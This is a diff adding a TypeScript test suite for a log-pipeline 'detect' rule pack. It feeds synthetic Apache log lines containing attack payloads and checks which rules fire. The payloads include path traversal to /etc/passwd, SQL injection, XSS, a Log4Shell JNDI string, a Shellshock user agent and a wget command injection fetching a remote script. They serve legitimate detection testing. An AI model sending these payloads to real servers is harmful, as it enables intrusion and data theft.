@@ -1,0 +1,241 @@
+import assert from 'node:assert/strict';
+import fs from 'node:fs/promises';
+import path from 'node:path';
+import type { Event } from '../core/index.js';
+import { runCli, tempDir } from './support/helpers.js';
+import { startPipeline } from './support/pipeline-harness.js';
+import { benignDay } from './bench/detect.js';
+
+const CORPUS = '/work/shared/corpora/crowdsec-hub-tests';
+const CHROME = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36';
+const BASE = Date.UTC(2026, 11, 3, 10, 0, 0);
+const MON = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
+const p2 = (n: number) => String(n).padStart(2, '0');
+
+/** A combined-format access line `s` seconds after BASE. */
+function acc(ip: string, method: string, target: string, status: number, s = 0, ua = CHROME, referer = '-'): string {
+  const d = new Date(BASE + s * 1000);
+  const t = `${p2(d.getUTCDate())}/${MON[d.getUTCMonth()]}/${d.getUTCFullYear()}:${p2(d.getUTCHours())}:${p2(d.getUTCMinutes())}:${p2(d.getUTCSeconds())} +0000`;
+  return `${ip} - - [${t}] "${method} ${target} HTTP/1.1" ${status} 512 "${referer}" "${ua}"`;
+}
+/** An Apache 2.4 error-log line `s` seconds after BASE. */
+function err(ip: string, module: string, text: string, s = 0): string {
+  const d = new Date(BASE + s * 1000);
+  return `[Thu Dec 03 ${p2(d.getUTCHours())}:${p2(d.getUTCMinutes())}:${p2(d.getUTCSeconds())}.000000 2026] [${module}] [pid 7005:tid 1406] [client ${ip}:51234] ${text}`;
+}
+
+/** Runs tail -> apache_access / apache_error -> detect over the lines; returns the alert events. */
+async function detect(access: string[], errors: string[] = [], options = ''): Promise<Event[]> {
+  const tmp = await tempDir('visor-detect-');
+  try {
+    const a = await tmp.file('access.log', access.join('\n') + '\n');
+    const e = await tmp.file('error.log', errors.join('\n') + '\n');
+    const h = await startPipeline(`
+inputs:
+  a: { type: tail, path: ${JSON.stringify(a)}, read_from: beginning, exit_on_eof: true }
+  e: { type: tail, path: ${JSON.stringify(e)}, read_from: beginning, exit_on_eof: true }
+filters:
+  access: { type: apache_access, inputs: [a], format: combined, timezone: UTC }
+  error: { type: apache_error, inputs: [e], timezone: UTC }
+aggregates:
+  det: { type: detect, inputs: [access, error]${options ? `, ${options}` : ''} }
+outputs:
+  out: { type: test_record, inputs: [det] }
+`);
+    await h.pipeline.done();
+    return h.probe('out').written;
+  } finally {
+    await tmp.remove();
+  }
+}
+
+const fired = (alerts: Event[]) => alerts.map((a) => `${a.rule} ${a.client_ip}`).sort();
+
+describe('detect aggregate', () => {
+  it('each default rule fires on attack lines, and not on their near-misses', async () => {
+    const access: string[] = [];
+    const errors: string[] = [];
+    // probing: 16 distinct non-static 404s in one second fire; near-miss: 16 404s of static files, and 15 pages.
+    for (let i = 0; i < 16; i++) access.push(acc('198.51.100.1', 'GET', `/admin${i}.php`, 404, 0));
+    for (let i = 0; i < 16; i++) access.push(acc('203.0.113.1', 'GET', `/img/missing${i}.png`, 404, i));
+    for (let i = 0; i < 15; i++) access.push(acc('203.0.113.2', 'GET', `/old-page-${i}`, 404, i));
+    // probing leaks: 16 distinct 404s, one a minute, never fill the bucket
+    for (let i = 0; i < 16; i++) access.push(acc('203.0.113.3', 'GET', `/gone/${i}`, 404, i * 60));
+    // sensitive files: three probes fire; near-miss: /environment, /git-guide, /download/report.pdf
+    for (const p of ['/.env', '/.git/config', '/wp-config.php~']) access.push(acc('198.51.100.2', 'GET', p, 404, 1));
+    for (const p of ['/environment', '/git-guide', '/download/report.pdf', '/blog/.envy']) access.push(acc('203.0.113.4', 'GET', p, 200, 1));
+    // path traversal: CVE-2021-41773, CVE-2021-42013, plain; near-miss: a dotted file name
+    access.push(acc('198.51.100.3', 'GET', '/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd', 400, 1));
+    access.push(acc('198.51.100.4', 'GET', '/icons/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/etc/passwd', 400, 1));
+    access.push(acc('198.51.100.5', 'GET', '/download?file=../../../../etc/shadow', 200, 1));
+    access.push(acc('203.0.113.5', 'GET', '/files/v1..2.tar.txt?x=a.b', 200, 1));
+    // SQL injection; near-miss: the words alone
+    access.push(acc('198.51.100.6', 'GET', "/item.php?id=1%27%20OR%20%271%27=%271", 200, 1));
+    access.push(acc('198.51.100.7', 'GET', '/news?id=-1+UNION+ALL+SELECT+1,2,concat(user(),0x3a,version())--', 200, 1));
+    access.push(acc('198.51.100.8', 'GET', '/p?id=1%20AND%20SLEEP(5)', 200, 1));
+    access.push(acc('203.0.113.6', 'GET', '/search?q=select+a+union+of+shoes&order=by+price', 200, 1));
+    // XSS; near-miss: the word script in a search
+    access.push(acc('198.51.100.9', 'GET', '/search?q=%3Cscript%3Ealert(1)%3C/script%3E', 200, 1));
+    access.push(acc('198.51.100.10', 'GET', '/p?x=%22%3E%3Csvg/onload=alert(document.domain)%3E', 200, 1));
+    access.push(acc('203.0.113.7', 'GET', '/search?q=movie+script+writing+javascript+tutorial', 200, 1));
+    // exploit strings: Log4Shell in the UA (corpus), Shellshock UA, PHP wrapper, command injection; near-miss: a ${} in text
+    access.push(acc('198.51.100.11', 'GET', '/', 200, 1, '${jndi:ldap://45.155.205.233:12344/Basic/Command/Base64/KGN1cmw=}'));
+    access.push(acc('198.51.100.12', 'GET', '/cgi-bin/status', 200, 1, '() { :; }; echo; /bin/bash -c "cat /etc/passwd"'));
+    access.push(acc('198.51.100.13', 'GET', '/index.php?page=php://filter/convert.base64-encode/resource=index', 200, 1));
+    access.push(acc('198.51.100.14', 'GET', '/ping.php?host=127.0.0.1;wget%20http://203.0.113.9/x.sh', 200, 1));
+    access.push(acc('203.0.113.8', 'GET', '/docs/templates?var=%24%7Bname%7D&shell=zsh', 200, 1));
+    errors.push(err('198.51.100.15', 'cgi:error', 'AH01215: /bin/bash: warning: HTTP_USER_AGENT: ignoring function definition attempt: /usr/lib/cgi-bin/test.sh', 1));
+    errors.push(err('198.51.100.15', 'cgi:error', "AH01215: /bin/bash: error importing function definition for `HTTP_USER_AGENT': /usr/lib/cgi-bin/test.sh", 1));
+    // scanner user agents; near-miss: a real crawler
+    access.push(acc('198.51.100.16', 'GET', '/', 200, 1, 'sqlmap/1.7.2#stable (https://sqlmap.org)'));
+    access.push(acc('198.51.100.17', 'GET', '/', 200, 1, 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)'));
+    access.push(acc('198.51.100.18', 'GET', '/', 200, 1, 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/108.0.0.0 Safari/537.36 Nuclei - Open-source project (github.com/projectdiscovery/nuclei)'));
+    access.push(acc('203.0.113.9', 'GET', '/', 200, 1, 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)'));
+    // aggressive crawl: 320 pages in 2 s; near-miss: 600 pages at 1/s (sustained below the 2/s leak)
+    for (let i = 0; i < 320; i++) access.push(acc('198.51.100.19', 'GET', `/page/${i}`, 200, Math.floor(i / 160)));
+    for (let i = 0; i < 600; i++) access.push(acc('203.0.113.10', 'GET', `/article/${i}`, 200, i));
+    // brute force: 6 POSTs answered 401; near-miss: 5 failures, then success
+    for (let i = 0; i < 6; i++) access.push(acc('198.51.100.20', 'POST', '/wp-login.php', 401, i));
+    for (let i = 0; i < 5; i++) access.push(acc('203.0.113.11', 'POST', '/login', 401, i));
+    access.push(acc('203.0.113.11', 'POST', '/login', 302, 6));
+    // and 6 failures, one every 15 s: a slow pace the 10 s leak lets through
+    for (let i = 0; i < 6; i++) access.push(acc('203.0.113.14', 'POST', '/login', 401, i * 15));
+    for (let i = 0; i < 6; i++) errors.push(err('198.51.100.21', 'auth_basic:error', `AH01618: user admin${i} not found: /private`, i));
+    errors.push(err('203.0.113.12', 'auth_basic:error', 'AH01617: user alice: authentication failure for "/private": Password Mismatch', 1));
+    // error-log signals: three invalid URIs (the corpus's CVE line); near-miss: ordinary file-not-found errors
+    for (let i = 0; i < 3; i++) errors.push(err('198.51.100.22', 'core:error', 'AH00126: Invalid URI in request GET /cgi-bin/.%2E/%2E%2E/%2E%2E/etc/passwd HTTP/1.1', i));
+    for (let i = 0; i < 5; i++) errors.push(err('203.0.113.13', 'core:info', `AH00128: File does not exist: /var/www/html/favicon${i}.ico`, i));
+
+    const alerts = await detect(access, errors);
+    assert.deepEqual(fired(alerts), [
+      'aggressive-crawl 198.51.100.19', 'brute-force 198.51.100.20', 'brute-force 198.51.100.21', 'error-log-signals 198.51.100.22',
+      'exploit-strings 198.51.100.11', 'exploit-strings 198.51.100.12', 'exploit-strings 198.51.100.13', 'exploit-strings 198.51.100.14', 'exploit-strings 198.51.100.15',
+      'path-traversal 198.51.100.3', 'path-traversal 198.51.100.4', 'path-traversal 198.51.100.5', 'probing 198.51.100.1',
+      'scanner-user-agent 198.51.100.16', 'scanner-user-agent 198.51.100.17', 'scanner-user-agent 198.51.100.18', 'sensitive-files 198.51.100.2',
+      'sql-injection 198.51.100.6', 'sql-injection 198.51.100.7', 'sql-injection 198.51.100.8', 'xss-probe 198.51.100.10', 'xss-probe 198.51.100.9',
+    ].sort());
+    const probe = alerts.find((a) => a.rule === 'probing')!;
+    assert.equal(probe.count, 16);
+    assert.equal(probe.distinct, 16);
+    assert.equal(probe.first, BASE);
+    assert.equal(probe.last, BASE);
+    assert.equal(probe.state, 'firing');
+    assert.equal(probe.kind, 'detect');
+    assert.equal(probe.name, 'probing');
+    assert.equal(probe.severity, 'warning');
+    assert.equal((probe.evidence as string[]).length, 3);
+    assert.deepEqual(probe.samples, probe.evidence);
+    assert.equal((probe.evidence as string[])[0], access[0]);
+    assert.match(String(probe.message), /^\[warning\] probing: 198\.51\.100\.1 — 16 distinct/);
+  });
+
+  it('fires on the crowdsec-hub-tests attack lines (CVE-2021-41773, Log4Shell, sensitive files, probing)', async function () {
+    const lines = async (d: string) => (await fs.readFile(path.join(CORPUS, d, `${d}.log`), 'utf8')).split('\n').filter(Boolean);
+    const access = [...await lines('apache-cve-2021-41773'), ...await lines('apache_log4j2_cve-2021-44228'), ...await lines('apache2-http-sensitive-files'), ...await lines('apache-http-probing')]
+      .filter((l) => !l.startsWith('['));
+    const rules = new Set((await detect(access)).map((a) => a.rule));
+    for (const r of ['path-traversal', 'exploit-strings', 'sensitive-files', 'probing']) assert.ok(rules.has(r), `${r} did not fire: ${[...rules].join(', ')}`);
+  });
+
+  it('allow-lists (networks and a condition) suppress; a quiet period holds a second firing; disable and override apply', async () => {
+    const access = [
+      acc('10.1.2.3', 'GET', '/.env', 404, 0, 'sqlmap/1.7'),
+      acc('2001:db8::5', 'GET', '/', 200, 0, 'sqlmap/1.7'),
+      acc('192.0.2.50', 'GET', '/', 200, 0, 'nikto monitor'),
+      // quiet: fires at 0, held at 60 s (within the default 10 min), fires again after 11 min
+      acc('192.0.2.60', 'GET', '/', 200, 0, 'sqlmap/1.7'),
+      acc('192.0.2.60', 'GET', '/', 200, 60, 'sqlmap/1.7'),
+      acc('192.0.2.60', 'GET', '/', 200, 660, 'sqlmap/1.7'),
+      // override: traversal needs 2 events now
+      acc('192.0.2.70', 'GET', '/a/../../etc/passwd', 404, 0),
+      acc('192.0.2.71', 'GET', '/a/../../etc/passwd', 404, 0),
+      acc('192.0.2.71', 'GET', '/b/../../etc/passwd', 404, 1),
+      // disabled rule
+      acc('192.0.2.80', 'GET', '/q?id=1%20UNION%20SELECT%201', 200, 0),
+    ];
+    const alerts = await detect(access, [], `allow_networks: [10.0.0.0/8, "2001:db8::/32"], allow_when: 'user_agent == "nikto monitor"', disable: [sql-injection], override: { path-traversal: { capacity: 1 } }`);
+    assert.deepEqual(fired(alerts), ['path-traversal 192.0.2.71', 'scanner-user-agent 192.0.2.60', 'scanner-user-agent 192.0.2.60']);
+    const second = alerts.filter((a) => a.client_ip === '192.0.2.60')[1];
+    assert.equal(second.quiet_matches, 1);
+    assert.equal(second.first, BASE + 660_000);
+  });
+
+  it('keeps at most max_clients clients under a flood of addresses, and says so in its metrics', async () => {
+    const access: string[] = [];
+    for (let i = 0; i < 5000; i++) access.push(acc(`10.${(i >> 16) & 255}.${(i >> 8) & 255}.${i & 255}`, 'GET', `/p${i}`, 404, 0));
+    const tmp = await tempDir('visor-detect-');
+    try {
+      const a = await tmp.file('access.log', access.join('\n') + '\n');
+      const h = await startPipeline(`
+inputs:
+  a: { type: tail, path: ${JSON.stringify(a)}, read_from: beginning, exit_on_eof: true }
+filters:
+  access: { type: apache_access, inputs: [a], format: combined, timezone: UTC }
+aggregates:
+  det: { type: detect, inputs: [access], max_clients: 100 }
+outputs:
+  out: { type: test_record, inputs: [det] }
+`);
+      await h.pipeline.done();
+      const m = h.metrics.snapshot().det as unknown as { custom: Record<string, number> };
+      assert.equal(m.custom.visor_detect_clients_max, 100);
+      assert.ok(m.custom.visor_detect_clients <= 100 && m.custom.visor_detect_clients >= 50, String(m.custom.visor_detect_clients));
+    } finally {
+      await tmp.remove();
+    }
+  });
+
+  for (const [what, benign] of [['raises no alert on a generated benign day (bursts, daily profile, browser and crawler agents)', true],
+    ['fires on the scanners the generator\'s default content includes by design (the same day with them)', false]] as const) it(what, async function () {
+    this.timeout(120_000);
+    const lines = 150_000;
+    const day = benignDay(lines, 5);
+    const gen = JSON.stringify(benign ? day : { ...day, content: undefined });
+    const h = await startPipeline(`
+inputs:
+  gen: ${gen}
+filters:
+  access: { type: apache_access, inputs: [gen], format: combined, timezone: UTC }
+aggregates:
+  det: { type: detect, inputs: [access] }
+outputs:
+  out: { type: test_record, inputs: [det] }
+  rest: { type: blackhole, inputs: [access._unparsed] }
+`);
+    await h.pipeline.done();
+    const m = h.metrics.snapshot().access as unknown as { received_events: number };
+    assert.equal(m.received_events, lines);
+    const alerts = h.probe('out').written;
+    if (benign) assert.deepEqual(fired(alerts), []);
+    else for (const r of ['scanner-user-agent', 'sensitive-files']) assert.ok(alerts.some((a) => a.rule === r), `${r} did not fire`);
+  });
+
+  it('visor validate reports bad rules at their place (exit 78)', async () => {
+    const tmp = await tempDir('visor-detect-');
+    try {
+      const cfg = await tmp.file('p.yaml', `inputs:
+  a: { type: stdin }
+aggregates:
+  det:
+    type: detect
+    inputs: [a]
+    disable: [no-such-rule]
+    override: { probing: { capacity: -1 }, nope: { leak: 1s } }
+    allow_networks: [10.0.0.0/33, not-an-ip]
+    rules:
+      - { name: probing, when: 'status == 404' }
+      - { name: mine, when: 'status >= ' }
+    default_pack: true
+outputs:
+  o: { type: stdout, inputs: [det] }
+`);
+      const r = await runCli(['validate', '-c', cfg]);
+      assert.equal(r.code, 78, r.stderr + r.stdout);
+      const text = r.stderr + r.stdout;
+      for (const want of [/p\.yaml:7:\d+: .*no rule is named "no-such-rule"/, /p\.yaml:8:\d+: .*capacity/, /p\.yaml:8:\d+: .*no rule is named "nope"/, /p\.yaml:9:\d+: .*prefix length/,
+        /p\.yaml:9:\d+: .*"not-an-ip" is no address/, /p\.yaml:11:\d+: .*default pack/, /p\.yaml:12:\d+: .*when/]) assert.match(text, want);
+    } finally {
+      await tmp.remove();
+    }
+  });
+});
